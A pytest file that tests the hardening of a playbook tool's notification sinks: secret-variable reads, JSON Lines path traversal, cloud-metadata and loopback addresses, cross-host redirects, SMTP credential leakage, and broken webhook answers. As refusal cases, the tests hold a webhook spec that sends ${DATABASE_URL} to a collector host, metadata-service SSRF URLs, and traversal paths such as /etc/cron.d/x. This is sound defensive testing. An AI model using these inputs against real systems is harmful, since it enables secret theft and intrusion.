"""Sinks under the operator's control: a playbook cannot turn a notification into a leak.

Each test is a finding of the hardening review: a secret read through
``${VAR}``, a JSON Lines path out of its folder, the cloud-metadata address,
loopback by default, SMTP credentials to another host or in clear text, a
redirect to another host, and webhooks that reset, answer garbage or close
mid-answer (a failed delivery retried later, never a crash, also while a
worker runs). Servers are real, on 127.0.0.1.
"""

from __future__ import annotations

import ipaddress
import json
import os
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from playbook.definition.sinkspec import spec_problem
from playbook.errors import EscalationError, NotificationError
from playbook.escalation.policy import SinkPolicy
from playbook.escalation.sinks import (
    EmailSink,
    JsonLinesSink,
    Notification,
    WebhookSink,
    declared_sinks,
    parse_sink,
)
from playbook.store.db import Database

NOTE = Notification(
    delivery_id="d-1",
    text="[sla] deal D-1: idle (level 1)",
    escalation={"rule": "stale", "deal": "D-1", "level": 1},
    subject="[sla] idle",
)
LOCAL = SinkPolicy(allow_private=True)


class _Server:
    """A TCP server on 127.0.0.1 that answers every connection with a scripted behaviour."""

    def __init__(self, behaviour: str, redirect_to: str = "") -> None:
        self.behaviour = behaviour
        self.redirect_to = redirect_to
        self.connections = 0
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.port = self.socket.getsockname()[1]
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/hooks/SECRET"

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            with client:
                self._answer(client)

    def _answer(self, client: socket.socket) -> None:
        client.settimeout(5)
        request = b""
        while b"\r\n\r\n" not in request:
            chunk = client.recv(65536)
            if not chunk:
                return
            request += chunk
        head, _, body = request.partition(b"\r\n\r\n")
        length = int(
            next(
                (
                    line.split(b":")[1]
                    for line in head.split(b"\r\n")
                    if line.lower().startswith(b"content-length")
                ),
                b"0",
            )
        )
        while len(body) < length:
            body += client.recv(65536)
        if self.behaviour == "ok":
            client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        elif self.behaviour == "mid-answer":
            client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\npartial")
        elif self.behaviour == "garbage":
            client.sendall(b"\x00\xffthis is not HTTP at all\r\n\r\n")
        elif self.behaviour == "reset":
            client.setsockopt(
                socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00"
            )
        elif self.behaviour == "redirect":
            client.sendall(
                b"HTTP/1.1 302 Found\r\nLocation: "
                + self.redirect_to.encode()
                + b"\r\nContent-Length: 0\r\n\r\n"
            )

    def close(self) -> None:
        self.socket.close()


@pytest.fixture
def server(request: pytest.FixtureRequest) -> Iterator[_Server]:
    """A scripted local server (``request.param`` is its behaviour)."""
    running = _Server(request.param)
    yield running
    running.close()


def _webhook(url: str, policy: SinkPolicy = LOCAL) -> WebhookSink:
    return WebhookSink(url, timeout=2, attempts=2, backoff=0, sleep=lambda _: None, policy=policy)


# --- secrets through ${VAR} -----------------------------------------------------------------


def test_a_playbook_cannot_read_any_environment_variable() -> None:
    """${DATABASE_URL} (or any variable outside the operator's prefix) is refused."""
    environ = {
        "DATABASE_URL": "postgresql://app:pw@db/prod",
        "PLAYBOOK_SINK_HOOK": "https://x.example/h",
    }
    leak = {"ops": "webhook:https://collector.example/?q=${DATABASE_URL}"}
    with pytest.raises(EscalationError, match="DATABASE_URL, which playbooks may not read"):
        declared_sinks(leak, environ, policy=SinkPolicy())
    [sink] = declared_sinks({"ops": "webhook:${PLAYBOOK_SINK_HOOK}"}, environ, policy=SinkPolicy())
    assert isinstance(sink, WebhookSink)
    assert sink.url == "https://x.example/h"
    allowed = SinkPolicy(allowed_env=frozenset({"DATABASE_URL"}))
    assert declared_sinks(leak, environ, policy=allowed)  # the operator may allow it


# --- JSON Lines paths -----------------------------------------------------------------------


@pytest.mark.parametrize("path", ["../x.jsonl", "a/../../x.jsonl", "/etc/cron.d/x", "~/x.jsonl"])
def test_jsonl_paths_of_a_playbook_stay_in_their_folder(tmp_path: Path, path: str) -> None:
    """Absolute, .. and ~ are refused by validate's check and by the sweep's policy."""
    assert spec_problem(f"jsonl:{path}") is not None
    with pytest.raises(EscalationError, match="jsonl"):
        declared_sinks({"audit": f"jsonl:{path}"}, {}, policy=SinkPolicy(jsonl_dir=tmp_path))


def test_a_symlink_out_of_the_jsonl_folder_is_refused(tmp_path: Path) -> None:
    """A relative path that a link turns into somewhere else is refused too."""
    folder = tmp_path / "logs"
    folder.mkdir()
    (folder / "out").symlink_to(tmp_path)
    policy = SinkPolicy(jsonl_dir=folder)
    with pytest.raises(EscalationError, match="leads out of"):
        declared_sinks({"audit": "jsonl:out/x.jsonl"}, {}, policy=policy)
    [sink] = declared_sinks({"audit": "jsonl:ok.jsonl"}, {}, policy=policy)
    assert isinstance(sink, JsonLinesSink)
    assert sink.path == folder / "ok.jsonl"


def test_the_operators_own_jsonl_sink_may_name_any_file(tmp_path: Path) -> None:
    """``--sink jsonl:/abs/path`` is the operator's, not the playbook's: allowed."""
    sink = parse_sink(f"jsonl:{tmp_path / 'a.jsonl'}", policy=SinkPolicy())
    assert isinstance(sink, JsonLinesSink)


# --- addresses ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://[fe80::1]/x",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://100.100.100.200/latest/meta-data/",
        "https://user:pw@hooks.example.com/x",
        "http:///nohost",
        "https://hooks.example.com:99999/x",
    ],
)
def test_urls_that_are_wrong_whatever_the_operator_says(url: str) -> None:
    """Validate refuses them from the text; so does every sink, the operator's included."""
    assert spec_problem(f"webhook:{url}") is not None
    with pytest.raises(EscalationError):
        parse_sink(f"webhook:{url}", policy=SinkPolicy(allow_private=True))


@pytest.mark.parametrize("server", ["ok"], indirect=True)
def test_a_host_resolving_to_metadata_is_refused_before_any_request(server: _Server) -> None:
    """DNS is checked per delivery: a name pointing at 169.254.169.254 is a failed delivery."""
    metadata = ipaddress.ip_address("169.254.169.254")
    policy = SinkPolicy(allow_private=True, resolver=lambda host, port: [metadata])
    with pytest.raises(NotificationError, match="may not reach"):
        _webhook(f"http://hooks.example.com:{server.port}/x", policy).send(NOTE)
    assert server.connections == 0


@pytest.mark.parametrize("server", ["ok"], indirect=True)
def test_loopback_is_refused_unless_the_operator_allows_it(
    server: _Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """127.0.0.1 by default: refused, nothing sent; with the operator's switch: delivered."""
    monkeypatch.delenv("PLAYBOOK_ALLOW_PRIVATE_SINKS", raising=False)
    with pytest.raises(NotificationError, match="may not reach"):
        parse_sink(server.url).send(NOTE)
    assert server.connections == 0
    monkeypatch.setenv("PLAYBOOK_ALLOW_PRIVATE_SINKS", "1")
    parse_sink(server.url).send(NOTE)
    assert server.connections == 1


def test_only_allowed_webhook_hosts_for_a_playbooks_sinks() -> None:
    """With PLAYBOOK_WEBHOOK_HOSTS set, a playbook's webhook elsewhere is refused."""
    policy = SinkPolicy.from_environ({"PLAYBOOK_WEBHOOK_HOSTS": "hooks.slack.com, *.example.com"})
    assert declared_sinks({"a": "https://hooks.slack.com/x"}, {}, policy=policy)
    assert declared_sinks({"b": "https://chat.example.com/x"}, {}, policy=policy)
    with pytest.raises(EscalationError, match="not among the allowed webhook hosts"):
        declared_sinks({"c": "https://evil.test/x"}, {}, policy=policy)


# --- redirects and broken answers -----------------------------------------------------------


def test_a_redirect_to_another_host_is_not_followed() -> None:
    """302 to elsewhere: a failed delivery naming the target; the target gets nothing."""
    target = _Server("ok")
    redirecting = _Server("redirect")
    redirecting.redirect_to = target.url
    try:
        with pytest.raises(NotificationError, match="not followed"):
            _webhook(redirecting.url).send(NOTE)
        assert target.connections == 0
        assert redirecting.connections == 1  # a redirect is not retried within the send
    finally:
        target.close()
        redirecting.close()


@pytest.mark.parametrize("server", ["mid-answer", "garbage", "reset"], indirect=True)
def test_broken_answers_are_failed_deliveries_retried(server: _Server) -> None:
    """Closing mid-answer, garbage, a reset: NotificationError after the retries, no crash."""
    with pytest.raises(NotificationError, match="after 2 attempt") as failed:
        _webhook(server.url).send(NOTE)
    assert server.connections == 2
    assert "SECRET" not in str(failed.value)


# --- SMTP credentials -------------------------------------------------------------------------


def test_smtp_credentials_go_only_to_their_host_and_only_over_tls() -> None:
    """User and password from the environment: refused for another host or without TLS."""
    environ = {"PLAYBOOK_SMTP_USER": "crm", "PLAYBOOK_SMTP_PASSWORD": "pw"}
    policy = SinkPolicy(smtp_host="mail.corp.example")
    spec = "smtp://{host}:587?from=a@corp.example&to=b@corp.example{tls}"
    with pytest.raises(EscalationError, match=r"belong to mail\.corp\.example"):
        declared_sinks(
            {"m": spec.format(host="evil.test", tls="&starttls=1")}, environ, policy=policy
        )
    with pytest.raises(EscalationError, match="without TLS"):
        declared_sinks({"m": spec.format(host="mail.corp.example", tls="")}, environ, policy=policy)
    [sink] = declared_sinks(
        {"m": spec.format(host="mail.corp.example", tls="&starttls=1")}, environ, policy=policy
    )
    assert isinstance(sink, EmailSink)
    assert (sink.username, sink.starttls) == ("crm", True)
    [plain] = declared_sinks({"m": spec.format(host="evil.test", tls="")}, {}, policy=policy)
    assert isinstance(plain, EmailSink)
    assert plain.username is None  # no credentials in the environment: nothing to leak


# --- JSON Lines: whole lines or nothing ----------------------------------------------------------


def test_a_torn_last_line_is_cut_before_the_next_append(tmp_path: Path) -> None:
    """A crash mid-write left half a line: the next append leaves only whole lines."""
    path = tmp_path / "out.jsonl"
    path.write_text('{"a": 1}\n{"b": 2, "tor', encoding="utf-8")
    JsonLinesSink(path).send(NOTE)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert json.loads(lines[0]) == {"a": 1}
    assert json.loads(lines[1])["escalation"]["rule"] == "stale"
    assert len(lines) == 2


def test_a_failed_write_leaves_the_file_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A disk that fills up halfway through the line: cut back, NotificationError, no torn line."""
    path = tmp_path / "out.jsonl"
    path.write_text('{"a": 1}\n', encoding="utf-8")
    real_write = os.write

    def half_then_full(descriptor: int, data: bytes) -> int:
        real_write(descriptor, data[: len(data) // 2])
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "write", half_then_full)
    with pytest.raises(NotificationError, match="No space left"):
        JsonLinesSink(path).send(NOTE)
    monkeypatch.undo()
    assert path.read_text(encoding="utf-8") == '{"a": 1}\n'


# --- a worker keeps going -----------------------------------------------------------------------


PLAYBOOK = """\
playbook: leaky
version: 1
title: {en: Leaky, zh: 泄漏}
roles:
  rep: {title: Rep}
stages:
  - {id: lead, title: {en: Lead, zh: 线索}}
  - {id: won, title: {en: Won, zh: 赢单}, outcome: won}
escalations:
  - id: stale
    title: {en: Stale, zh: 停滞}
    trigger: {in_stage: {days: 1}}
    levels:
      - notify: [owner]
"""


def test_a_worker_survives_a_webhook_closing_mid_answer(database: Database, tmp_path: Path) -> None:
    """The worker logs the failed delivery, sweeps again, and stops cleanly on SIGTERM."""
    from datetime import UTC, datetime

    from playbook.definition.files import playbook_from_text
    from playbook.store.repository import DealStore
    from playbook.values import Actor

    path = tmp_path / "leaky.yaml"
    path.write_text(PLAYBOOK, encoding="utf-8")
    playbook = playbook_from_text(PLAYBOOK, str(path))
    DealStore(database).add_deal(
        playbook, actor=Actor("ann", frozenset({"rep"})), now=datetime(2026, 1, 5, tzinfo=UTC),
        external_id="D-1", owner="ann",
    )  # fmt: skip
    broken = _Server("mid-answer")
    url = database.engine.url.render_as_string(hide_password=False)
    process = subprocess.Popen(
        [sys.executable, "-m", "playbook", "worker", "--playbook", str(path), "--db", url,
         "--every", "1s", "--sink", f"hook=webhook:{broken.url}"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1", "PLAYBOOK_ALLOW_PRIVATE_SINKS": "1"},
    )  # fmt: skip
    try:
        assert process.stdout is not None
        first = process.stdout.readline()
        second = process.stdout.readline()
        assert "fired" in first
        assert second  # a second sweep ran: the worker is alive after the failed delivery
        assert broken.connections >= 2
        process.send_signal(signal.SIGTERM)
        _out, err = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
        broken.close()
    assert process.returncode == 0, err
    assert "internal error" not in err
    assert "Traceback" not in err
